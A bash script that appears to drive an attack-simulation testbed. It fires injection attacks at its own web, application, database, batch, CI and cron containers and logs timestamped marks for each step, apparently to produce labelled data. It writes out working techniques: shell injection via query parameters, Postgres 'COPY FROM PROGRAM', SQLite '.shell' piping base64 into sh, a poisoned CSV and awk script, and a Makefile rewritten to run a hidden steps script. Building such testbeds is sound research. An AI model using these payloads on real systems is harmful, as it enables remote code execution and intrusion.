# shellcheck shell=bash
# Carries attacks out. Each file of attacks/ names its set and targets, and has steps: `step NAME COMMANDS` for what a shell in the container
# does, `typed NAME PORT COMMANDS` for what is typed into a shell that came to the attacker, `said NAME PORT LINE...` for
# what is said to the service itself. How the first of them gets in is the target's.

c2=203.0.113.66
export c2

encoded() { jq -rn --arg text "$1" '$text | @uri'; }
# For a statement: in quotes, which are doubled.
quoted() { printf "'%s'" "${1//\'/\'\'}"; }
fetch() { hub curl --silent --max-time 12 --output /dev/null "$1" || true; }
sql() { hub python3 "$here/load.py" --postgres "$1" "$2" >>"$dir/exec.log" 2>&1 || true; }
lines() { hub python3 "$here/load.py" --lines "$@" >>"$dir/exec.log" 2>&1 || true; }

enter() { # enter REPLICA COMMANDS
    local at=${addresses[$1]} terminal=()
    case ${1%-*} in
    web-httpd) fetch "http://$at/cgi-bin/status?host=$(encoded "x; $2")" ;;
    web-lighttpd) fetch "http://$at/count.sh?$(encoded "x; $2")" ;;
    app-*) fetch "http://$at:8000/report?name=$(encoded "x; $2")" ;;
    db-postgres) sql "$at" "create temp table if not exists o(t text); copy o from program $(quoted "($2) 2>&1 | tr -cd '[:print:]\n' | tr -d '\\\\'; true")" ;;
    db-sqlite) lines "$at" 7000 ".shell echo $(printf '%s' "$2" | base64 -w 0)|base64 -d|sh" ;;
    *)
        [ "$variant" = 1 ] || terminal=(--tty)
        podman_here exec "${terminal[@]}" "$1" sh -c "$2" >>"$dir/exec.log" 2>&1 </dev/null || true
        ;;
    esac
}

marked() { # marked STEP COMMAND...: a step that is carried out from here
    local from=$EPOCHREALTIME what=$1
    shift
    "$@"
    # What was begun in the background comes a little later.
    sleep 0.4
    mark "$(text mark step)" "$(text attack "$attack-$variant")" "$(text step "$what")" "$(text container "$victim")" \
        "$(number from "$from")" "$(number to "$EPOCHREALTIME")"
    wait_about "$pace"
}

step() {
    if [ -n "$script" ]; then
        written+=("$1")
        printf ': >/volume/mark.%s\n(%s) 2>/dev/null\nsleep %s\n' "${#written[@]}" "$2" "$((pace / 1000 + 1))" >>"$script"
    else
        marked "$1" enter "$victim" "$2"
    fi
}
typed() { marked "$1" type_into "$2" "$3"; }
said() { marked "$1" lines "${addresses[$victim]}" "${@:2}"; }

type_into() { # type_into PORT COMMANDS
    printf '%s\n' "$2" >"$dir/say/.$1"
    mv "$dir/say/.$1" "$dir/say/$1"
    sleep 1
}

# Steps that a job of the container's own runs say themselves when each begins, by a file's time.
scripted() { # scripted COMMAND...: has the script run
    local volume=${script%/*} i from to
    printf ': >/volume/mark.end\n' >>"$script"
    chmod 755 "$script"
    "$@"
    for _ in $(seq 300); do
        [ ! -e "$volume/mark.end" ] || break
        sleep 0.5
    done
    [ -e "$volume/mark.end" ] || say "$attack-$variant did not come to its end"
    for ((i = 1; i <= ${#written[@]}; i++)); do
        [ -e "$volume/mark.$i" ] || continue
        from=$(stat -c %.6Y "$volume/mark.$i")
        to=$(stat -c %.6Y "$volume/mark.$((i + 1))" 2>/dev/null || stat -c %.6Y "$volume/mark.end" 2>/dev/null || printf '%s' "$EPOCHREALTIME")
        mark "$(text mark step)" "$(text attack "$attack-$variant")" "$(text step "${written[i - 1]}")" "$(text container "$victim")" \
            "$(number from "$from")" "$(number to "$to")"
    done
    rm -f "$script" "$volume"/mark.*
}

poisoned() { # poisoned IMAGE: the options and arguments that give a job bad input, one a line
    local volume=$dir/volumes/$victim
    printf '%s\n' --volume "$volume:/volume" --
    case $1 in
    batch-python)
        { printf 'shop,amount\nshop1,3\n'; echo "shop2,__import__('os').system('sh /volume/steps')"; } >"$volume/orders.csv"
        printf '%s\n' /usr/local/bin/serve /volume/orders.csv
        ;;
    batch-awk)
        # shellcheck disable=SC2016 # awk's
        printf '{ hits[$2]++ }\nEND { system("sh /volume/steps"); for (page in hits) print page }\n' >"$volume/statistics.awk"
        printf '%s\n' /usr/local/bin/serve /volume/statistics.awk
        ;;
    ci-*)
        mkdir -p "$volume/project"
        cp "$here/files/$1/srv/project"/* "$volume/project/"
        # shellcheck disable=SC2016 # make's
        sed -i 's|^check: hello|check: hello\n\t@sh /volume/steps|' "$volume/project/Makefile"
        printf '%s\n' /usr/local/bin/serve /volume/project
        ;;
    esac
}

run_attack() { # run_attack ATTACK TARGET VARIANT
    local attack=$1 target=$2 variant=$3 script='' written=() pace victim arguments
    chance "$1 $2 $3"
    # Fast, or with time to forget in between.
    pace=$((RANDOM % 2 ? 300 : slow))
    # shellcheck source=/dev/null
    . "$here/attacks/$attack"
    attack=$attack-$target
    mark "$(text mark attack)" "$(text attack "$attack-$variant")" "$(text set "$set")" "$(text image "$target")" "$(number pace "$pace")"
    case $target in
    batch-* | ci-*)
        victim=$target-attacked-$variant-$1
        mkdir -p "$dir/volumes/$victim"
        script=$dir/volumes/$victim/steps
        steps
        mapfile -t arguments < <(poisoned "$target")
        scripted job "$target" "$victim" "${arguments[@]}"
        ;;
    cron-*)
        victim=$target-1
        script=$dir/volumes/$victim/after-backup
        printf '#!/bin/sh\n' >"$script.new"
        script+=.new
        steps
        locked "$victim" run_by_cron
        ;;
    *)
        victim=$target-$variant
        [ -n "${addresses[$victim]:-}" ] || victim=$target-1
        locked "$victim" run_steps
        ;;
    esac
}

# An attacker comes when there is something to attack, and not while it starts.
await() { # await REPLICA
    local port
    case ${1%-*} in
    web-* | proxy-*) port=80 ;;
    app-*) port=8000 ;;
    db-postgres) port=5432 ;;
    db-sqlite) port=7000 ;;
    *) return 0 ;;
    esac
    for _ in $(seq 120); do
        ! hub bash -c "exec 3<>/dev/tcp/${addresses[$1]}/$port" 2>/dev/null || return 0
        sleep 0.5
    done
    say "$1 does not answer"
}

run_steps() {
    await "$victim"
    sleep 2
    steps
    sleep 2
    replace "$victim"
}

run_by_cron() {
    scripted mv "$script" "${script%.new}"
    rm -f "${script%.new}"
    replace "$victim"
}
